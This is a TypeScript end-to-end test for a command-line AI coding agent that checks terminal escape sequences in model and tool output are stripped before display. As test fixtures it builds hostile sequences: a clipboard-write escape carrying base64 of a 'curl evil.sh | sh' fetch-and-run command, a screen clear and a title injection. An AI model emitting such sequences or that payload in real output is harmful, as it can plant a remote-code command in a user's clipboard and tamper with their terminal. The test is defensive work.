/**
 * Escape sequences in what the model or a tool writes never reach the person's terminal raw: an
 * OSC 52 in a reply wrote the clipboard, a CSI 2J cleared the screen, through `cairn run`'s
 * progress, its final answer, and `cairn show` / `cairn history`. What a person should read of
 * the same text still arrives.
 */
import { writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { cleanEnv, runCairn, xmlCall } from "../support/cairn-cli.js";
import { useE2eFixture } from "../support/e2e-fixture.js";
import { startScriptedModelServer, type ScriptedTurn } from "../support/scripted-model-server.js";

const fx = useE2eFixture();

/** A clipboard write (base64 of "curl evil.sh | sh"), a screen clear and cursor home, a title set ended by ST. */
const osc52 = "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
const clear = "\u001b[2J\u001b[H";
const title = "\u001b]0;pwned\u001b\\";
/** Any byte that can act on a terminal: ESC, BEL, other C0 but newline and tab, DEL, C1 (as UTF-8 or raw). */
const acting = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

const env = () => cleanEnv({ ANTHROPIC_API_KEY: "k", CAIRN_HOME: fx.home.dir });
const nativeCall = (name: string, input: Record<string, unknown>): ScriptedTurn => ({ content: [{ type: "tool_use", name, input }] });

/** The same hostile task in either protocol: prose, a read of a hostile path, a command printing sequences, a hostile result. */
function turns(protocol: "native" | "xml"): ScriptedTurn[] {
  const prose = `Looking at it${osc52} now.${clear}\n`;
  const read = { path: `missing${title}.txt` };
  // The command's output carries the sequences themselves (printf turns \033 and \007 into the bytes).
  const command = { command: "printf 'out\\033]52;c;eA==\\007put\\033[2J\\n'", requires_approval: "false" };
  const result = { result: `All done${osc52}${clear} here.` };
  if (protocol === "native") {
    return [
      { content: [{ type: "text", text: prose }, { type: "tool_use", name: "read_file", input: read }] },
      nativeCall("execute_command", { ...command, requires_approval: false }),
      nativeCall("attempt_completion", result),
    ];
  }
  return [
    { content: [{ type: "text", text: `${prose}${xmlCall("read_file", read)}` }] },
    { content: [{ type: "text", text: xmlCall("execute_command", command) }] },
    { content: [{ type: "text", text: xmlCall("attempt_completion", result) }] },
  ];
}

describe("escape sequences in the model's and tools' text", () => {
  it.each(["native", "xml"] as const)("never reach the terminal through cairn run, cairn show or cairn history (%s)", async (protocol) => {
    writeFileSync(path.join(fx.workspace.dir, "notes.txt"), "notes\n");
    // The command needs no network; its sandbox then needs no network namespace either.
    writeFileSync(path.join(fx.home.dir, "settings.json"), JSON.stringify({ sandbox: { network: "off" } }));
    fx.server = await startScriptedModelServer({ turns: turns(protocol) });
    const run = await runCairn(
      ["run", "--provider", "anthropic", "--base-url", fx.server.url, "--cwd", fx.workspace.dir, "--protocol", protocol, "--auto-approve", "read,safe-commands", `Tidy up${clear} the notes`],
      { env: env(), timeoutMs: 120_000 },
    );
    expect(run.code, run.stderr).toBe(0);
    // No byte that acts on a terminal, on either stream.
    for (const stream of [run.stdout, run.stderr]) {
      expect(stream).not.toMatch(acting);
      expect(stream).not.toContain("\u001b");
      expect(stream).not.toContain("\u0007");
    }
    // What a person reads is all there: the reply, the summary, the command's output, the answer.
    expect(run.stderr).toContain("Looking at it now.");
    expect(run.stderr).toContain("missing.txt");
    expect(run.stderr).toContain("│ output");
    expect(run.stdout).toBe("All done here.\n");
    // The reply really held the sequences (the conversation keeps the model's words as they were):
    // only the terminal was spared them. The command ran and printed.
    expect(JSON.stringify(fx.server.requests[1]!.body)).toContain("Looking at it\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007");
    expect(JSON.stringify(fx.server.requests[2]!.body)).toContain("Exit code: 0");

    const history = await runCairn(["history"], { env: env() });
    expect(history.code, history.stderr).toBe(0);
    expect(history.stdout).toContain("Tidy up the notes");
    const id = /^(\S+)\s/.exec(history.stdout)![1]!;
    const show = await runCairn(["show", id], { env: env() });
    expect(show.code, show.stderr).toBe(0);
    expect(show.stdout).toContain("Tidy up the notes");
    expect(show.stdout).toContain("missing.txt");
    expect(show.stdout).toContain("success: All done here.");
    for (const stream of [history.stdout, history.stderr, show.stdout, show.stderr]) expect(stream).not.toMatch(acting);

    // --json is JSON: the sequences are there, escaped, for a program to read.
    const json = await runCairn(["show", id, "--json"], { env: env() });
    expect(json.stdout).not.toContain("\u001b");
    expect(json.stdout).toContain("All done\\u001b]52;c;");
  }, 180_000);
});
